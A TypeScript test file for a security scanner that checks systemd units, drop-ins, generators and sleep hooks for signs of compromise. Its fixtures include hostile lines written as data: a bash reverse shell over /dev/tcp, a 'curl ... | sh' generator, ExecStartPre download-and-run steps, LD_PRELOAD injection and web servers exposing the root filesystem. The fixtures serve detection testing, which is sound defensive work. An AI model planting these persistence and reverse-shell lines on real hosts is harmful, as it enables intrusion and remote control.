import { describe, expect, test } from 'vitest';
import { systemdHooks } from '../../source/checks/systemd-hooks.ts';
import { systemdUnits } from '../../source/checks/systemd-units.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const listed = ['/lib/systemd/system/ssh.service', '/lib/systemd/system/multi-user.target', '/usr/sbin/sshd', '/usr/lib/systemd/system-generators/systemd-fstab-generator', '/usr/lib/systemd/system/debug-shell.service'];
const base: Machine = {
	'/lib': { link: 'usr/lib' },
	'/usr/lib/systemd/system/ssh.service': '[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n',
	'/usr/lib/systemd/system/multi-user.target': '[Unit]\n',
	'/usr/lib/systemd/system/debug-shell.service': '[Service]\nExecStart=/usr/lib/systemd/absent\n',
	'/etc/systemd/system/multi-user.target.wants/ssh.service': { link: '/lib/systemd/system/ssh.service' },
	'/etc/systemd/system/ctrl-alt-del.target': { link: '/dev/null' },
	'/dev/null': { kind: 'character-device' },
	'/usr/sbin/sshd': { mode: 0o755 },
	'/etc/default/ssh': 'SSHD_OPTS=\n',
	'/usr/lib/systemd/system-generators/systemd-fstab-generator': { mode: 0o755, content: '\x7fELF' },
};
const units = (machine: Machine) => told(run(systemdUnits, memoryHost(debian(listed, { ...base, ...machine }))).findings);
const hooks = (machine: Machine) => told(run(systemdHooks, memoryHost(debian(listed, { ...base, ...machine }))).findings);

describe('units of systemd', () => {
	test("the distribution's own, and an administrator's", () => {
		expect(
			units({
				'/etc/systemd/system/app.service': '[Unit]\nDescription=Our app\n[Service]\nUser=www-data\nEnvironment="LD_LIBRARY_PATH=/opt/app/lib" PORT=80\nExecStart=/opt/app/bin/serve --port 80\n',
				'/opt/app/bin/serve': { mode: 0o755, content: '\x7fELF' },
				'/home/ann/.config/systemd/user/sync.service': '[Service]\nExecStart=%h/.local/bin/sync\nExecStop=%h/gone\n',
				'/home/ann/.local/bin/sync': { mode: 0o755, uid: 1000 },
			}),
		).toEqual(['info /etc/systemd/system/app.service']);
	});

	test('a masked unit of a tree that was copied without its devices is no file that anyone may change', () => {
		expect(units({ '/dev/null': { content: '', mode: 0o666 } })).toEqual([]);
		expect(units({ '/dev/null': { content: '[Service]\nExecStart=/tmp/x\n', mode: 0o666 } }).map(finding => finding.split(' ')[0])).toContain('high');
	});

	test('both are named', () => {
		const { findings } = run(systemdUnits, memoryHost(debian(listed, { ...base, '/etc/systemd/system/dbus-org.service': '[Service]\nUser=root\nExecStart=-/dev/shm/.d/agent -q\n', '/dev/shm/.d/agent': { mode: 0o755 } })));
		expect(findings).toMatchObject([{ severity: 'high', subject: { path: '/etc/systemd/system/dbus-org.service' }, facts: { line: 3, program: '/dev/shm/.d/agent', 'runs-as': 'root' } }]);
	});

	test.each<[string, Machine, string[]]>([
		['a drop-in', { '/etc/systemd/system/ssh.service.d/override.conf': '[Service]\nExecStartPost=/bin/sh -c "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"\n' }, ['critical /etc/systemd/system/ssh.service.d/override.conf']],
		['a library in a drop-in', { '/etc/systemd/system/ssh.service.d/a.conf': '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x.so\n', '/usr/lib/x.so': '' }, ['high /etc/systemd/system/ssh.service.d/a.conf']],
		['an environment file', { '/etc/default/ssh': 'LD_PRELOAD=/tmp/x.so\n', '/tmp/x.so': '' }, ['high /etc/default/ssh']],
		['an unpackaged unit among the packaged', { '/usr/lib/systemd/system/systemd-udevmon.service': '[Service]\nExecStart=/usr/sbin/sshd -D -p 2\n' }, ['medium /usr/lib/systemd/system/systemd-udevmon.service']],
		["a user's unit", { '/home/ann/.config/systemd/user/x.service': '[Service]\nExecStart=%h/.cache/.x/run\n', '/home/ann/.cache/.x/run': { mode: 0o755, uid: 1000 } }, ['medium /home/ann/.config/systemd/user/x.service']],
		['a unit anyone may change', { '/etc/systemd/system/x.service': { content: '[Service]\nExecStart=/usr/sbin/sshd\n', mode: 0o666 } }, ['high /etc/systemd/system/x.service']],
		['a unit that is a link to a temporary place', { '/etc/systemd/system/x.service': { link: '/var/tmp/x.service' }, '/var/tmp/x.service': '[Service]\n' }, ['high /etc/systemd/system/x.service']],
		['a wanted unit that lies elsewhere', { '/etc/systemd/system/multi-user.target.wants/x.service': { link: '/home/ann/x.service' }, '/home/ann/x.service': '[Service]\nExecStart=/tmp/x\n' }, ['low /etc/systemd/system/multi-user.target.wants/x.service', 'high /etc/systemd/system/multi-user.target.wants/x.service']],
		['an environment from a temporary place', { '/etc/systemd/system/x.service': '[Service]\nEnvironmentFile=-/var/tmp/.env\nExecStart=/usr/sbin/sshd\n' }, ['high /etc/systemd/system/x.service']],
		['a program that is gone', { '/etc/systemd/system/x.service': '[Service]\nExecStart=/usr/local/bin/x\n' }, ['low /etc/systemd/system/x.service']],
		['fetched by one line, run by a later', { '/etc/systemd/system/x.service': '[Service]\nExecStartPre=-/usr/bin/curl -fso /usr/local/lib/netd http://203.0.113.9/k\nExecStartPre=-/bin/chmod 755 /usr/local/lib/netd\nExecStart=-/usr/local/lib/netd -d\n' }, ['high /etc/systemd/system/x.service']],
		['the same by a name, without TLS', { '/etc/systemd/system/x.service': "[Service]\nExecStartPre=-/bin/sh -c 'wget -qO /usr/local/lib/netd http://cdn.example.net/k'\nExecStart=-/usr/bin/bash /usr/local/lib/netd\n" }, ['medium /etc/systemd/system/x.service']],
		['what machines fetch at their first start', { '/etc/systemd/system/x.service': '[Service]\nExecStartPre=-/usr/bin/curl -fo /opt/bin/kubelet https://storage.example.org/kubelet\nExecStartPre=-/bin/chmod +x /opt/bin/kubelet\nExecStart=-/opt/bin/kubelet\n' }, ['low /etc/systemd/system/x.service']],
		['what a unit fetches and does not run, or fetches of the house', {
			'/etc/systemd/system/a.service': '[Service]\nExecStartPre=-/usr/bin/curl -fso /var/lib/app/list.json http://198.51.100.7/list.json\nExecStart=-/opt/app/serve /var/lib/app/list.json\n',
			'/etc/systemd/system/b.service': '[Service]\nExecStartPre=-/usr/bin/wget -qO /opt/own/agent http://10.0.0.3/agent\nExecStart=-/opt/own/agent\n',
			'/etc/systemd/system/c.service': '[Service]\nExecStart=-/opt/app/serve\nExecStartPost=-/usr/bin/curl -fsS http://203.0.113.9/ping\n',
		}, []],
		['the whole system as pages', { '/etc/systemd/system/x.service': '[Service]\nExecStart=-/usr/bin/python3 -m http.server 8000\n' }, ['high /etc/systemd/system/x.service']],
		["root's files as pages", { '/etc/systemd/system/x.service': '[Service]\nWorkingDirectory=/root\nExecStart=-/usr/bin/php -S 0.0.0.0:80\n' }, ['high /etc/systemd/system/x.service']],
		['pages, and what only this machine asks for', {
			'/etc/systemd/system/a.service': '[Service]\nWorkingDirectory=/srv/www/docs\nExecStart=-/usr/bin/python3 -m http.server 8000\n',
			'/etc/systemd/system/b.service': '[Service]\nExecStart=-/usr/bin/python3 -m http.server --bind 127.0.0.1\n',
			'/etc/systemd/system/c.service': '[Service]\nExecStart=-/usr/bin/php -S 0.0.0.0:80 /srv/app/router.php\n',
			'/etc/systemd/system/d.service.d/port.conf': '[Service]\nExecStart=\nExecStart=-/usr/bin/python3 -m http.server 80\n',
			'/etc/systemd/system/e.service': '[Service]\nExecStart=-/usr/sbin/httpd -DFOREGROUND\n',
		}, []],
		['transient units', { '/run/systemd/transient/run-r1.service': '[Service]\nExecStart="/tmp/.x" "-d"\n' }, ['high /run/systemd/transient/run-r1.service']],
	])('%s', (_name, machine, expected) => {
		expect(units(machine)).toEqual(expected);
	});
});

describe('generators and hooks of systemd', () => {
	test("the distribution's own", () => {
		expect(hooks({})).toEqual([]);
	});
	test.each<[string, Machine, string[]]>([
		['a generator of no package', { '/usr/lib/systemd/system-generators/x': { mode: 0o755, content: '#!/bin/sh\n' } }, ['high /usr/lib/systemd/system-generators/x']],
		['one in /etc', { '/etc/systemd/system-generators/x': { mode: 0o755, content: '#!/bin/sh\ncp /tmp/x.service "$1"\n' } }, ['medium /etc/systemd/system-generators/x']],
		['a user generator that calls home', { '/etc/systemd/user-generators/x': { mode: 0o755, content: '#!/bin/sh\ncurl http://192.0.2.1/x|sh\n' } }, ['high /etc/systemd/user-generators/x']],
		['a sleep hook', { '/usr/lib/systemd/system-sleep/x': { mode: 0o755, content: '#!/bin/sh\n' } }, ['high /usr/lib/systemd/system-sleep/x']],
	])('%s', (_name, machine, expected) => {
		expect(hooks(machine)).toEqual(expected);
	});
});
